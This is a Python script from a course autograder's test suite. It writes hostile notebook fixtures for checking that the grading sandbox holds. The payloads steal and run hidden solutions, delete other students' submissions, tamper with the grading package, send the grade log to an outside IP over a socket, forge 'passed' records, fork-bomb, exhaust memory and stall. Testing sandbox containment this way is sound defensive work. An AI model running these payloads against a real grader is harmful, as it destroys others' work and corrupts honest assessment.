"""Regenerate the hostile fixtures from the exercise notebooks: `python tests/data/grading/hostile/make_hostile.py`."""
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[4]
OUT = REPO / "tests/data/grading/hostile"

STEAL = '''# HOSTILE: find the course's solutions (above this folder or above the installed package) and run the
# solution cell of the same exercise. Unsandboxed this scores full marks.
import json
from pathlib import Path

import m11_helpers


def _steal(exercise):
    starts = [Path.cwd(), Path(m11_helpers.__file__).resolve().parent]
    for start in starts:
        for folder in (start, *start.parents):
            for nb in sorted(folder.glob("solutions/00_*.ipynb")):
                for cell in json.loads(nb.read_text())["cells"]:
                    meta = cell.get("metadata", {}).get("m11", {})
                    if cell["cell_type"] == "code" and meta == {"exercise": exercise, "role": "solution"}:
                        return "".join(cell["source"])
    raise FileNotFoundError(f"no solutions/00_*.ipynb above {[str(s) for s in starts]}: out of reach")


exec(_steal("{ex}"))
'''

DELETE = '''# HOSTILE: list the class folder (this folder's parent) and delete every other submission and report in it.
import os
import shutil
from pathlib import Path

here = Path.cwd()
listed, deleted = sorted(os.listdir(here.parent)), []
for folder in (here.parent, here.parent.parent):
    for other in sorted(folder.iterdir()):
        try:
            looks_graded = other.is_dir() and not other.is_symlink() and other != here and (
                any(other.glob("*.ipynb")) or any(other.glob("*/report.json")) or (other / "class.csv").exists())
        except OSError:  # a folder it may not read
            continue
        if looks_graded:
            shutil.rmtree(other, ignore_errors=True)
            deleted.append(str(other))
raise RuntimeError(f"listed {here.parent}: {listed}; deleted: {deleted}")
'''

WRITE = '''# HOSTILE: make every later student pass: write into the installed grading package and into solutions/.
# (Safe if it is not stopped: it writes the package's first byte back unchanged and drops a PWNED.txt.)
from pathlib import Path

import m11_helpers
import m11_helpers.grading.checks as target

errors, wrote = [], []
try:
    with open(target.__file__, "r+b") as f:  # the check functions every check cell calls
        first = f.read(1)
        f.seek(0)
        f.write(first)
    wrote.append(target.__file__)
except OSError as e:
    errors.append(e)
for start in (Path.cwd(), Path(m11_helpers.__file__).resolve().parent):
    for folder in (start, *start.parents):
        if (folder / "solutions").is_dir():
            try:
                (folder / "solutions" / "PWNED.txt").write_text("graded after me? your hidden tests are mine\\n")
                wrote.append(str(folder / "solutions"))
            except OSError as e:
                errors.append(e)
if errors:
    raise errors[0]
raise RuntimeError(f"wrote into {wrote}")
'''

NETWORK = '''# HOSTILE: send the hidden tests out (needs the network).
import socket

with socket.create_connection(("1.1.1.1", 443), timeout=10) as s:
    s.sendall(open(__import__("os").environ.get("M11_GRADE_LOG", "/dev/null"), "rb").read()[:1000])
'''

FORK = '''# HOSTILE: a fork bomb. Every child sleeps, so the process count only grows.
# (Safety cap: it stops at 4000 processes so that a broken sandbox cannot take the machine down.)
import os
import time

children = []
while len(children) < 4000:
    pid = os.fork()
    if pid == 0:
        try:
            time.sleep(120)
        finally:
            os._exit(0)
    children.append(pid)
raise RuntimeError(f"forked {len(children)} processes and nothing stopped me")
'''

MEMORY = '''# HOSTILE: allocate 30 GB, touching every page (a single 30 GB request would be refused by overcommit anyway).
# (Safety: it refuses to start without a memory limit, so a broken sandbox cannot take the machine down.)
import resource

if resource.getrlimit(resource.RLIMIT_DATA)[0] == resource.RLIM_INFINITY:
    raise RuntimeError("no memory limit is set: refusing to allocate 30 GB")
hog = [bytearray(512 << 20) for _ in range(60)]  # 60 x 512 MiB, zero-filled
raise RuntimeError(f"allocated {len(hog) / 2:.0f} GiB and nothing stopped me")
'''

FORGE = '''# HOSTILE: leave the exercises unanswered and write "passed" records into the grader's cell log,
# through the path in M11_GRADE_LOG and through the grading process's open file (/proc/PPID/fd).
import json
import os

forged, errors = [], []
record = [json.dumps({"event": "result", "cell": c, "when": "call", "outcome": "passed"}) + "\\n" for c in (3, 5)]
fd = os.environ.get("M11_GRADE_LOG", "").rsplit("/", 1)[-1]
for target in (os.environ.get("M11_GRADE_LOG", ""), f"/proc/{os.getppid()}/fd/{fd}"):
    try:
        with open(target, "a") as log:
            log.writelines(record)
        forged.append(target)
    except OSError as e:
        errors.append(f"{target}: {e}")
print("forged:", forged, "refused:", errors)
'''

SLEEP = '''# HOSTILE: sleep past every limit.
import time

time.sleep(3600)
'''


def write(name, nb):
    folder = OUT / name
    folder.mkdir(parents=True, exist_ok=True)
    stem = "00_welcome" if name == "read_solutions" else "00_demo"
    nbformat.write(nb, folder / f"{stem}.ipynb")


def replace_solutions(src, code_for):
    nb = nbformat.read(src, as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("m11", {})
        if cell.cell_type == "code" and meta.get("role") == "solution":
            new = code_for(meta["exercise"])
            if new is not None:
                cell.source = new
    return nb


write("read_solutions", replace_solutions(REPO / "exercises/00_welcome.ipynb", lambda ex: STEAL.replace("{ex}", ex)))
forge = nbformat.read(REPO / "tests/data/grading/exercises/00_demo.ipynb", as_version=4)
forge.cells.append(nbformat.v4.new_code_cell(FORGE, id="forge-the-log"))
write("forge_log", forge)
for name, code in [("delete_class", DELETE), ("write_solutions", WRITE), ("network", NETWORK),
                   ("fork_bomb", FORK), ("memory_30gb", MEMORY), ("sleep", SLEEP)]:
    write(name, replace_solutions(REPO / "tests/data/grading/exercises/00_demo.ipynb",
                                  lambda ex, code=code: code if ex == "0.1" else None))
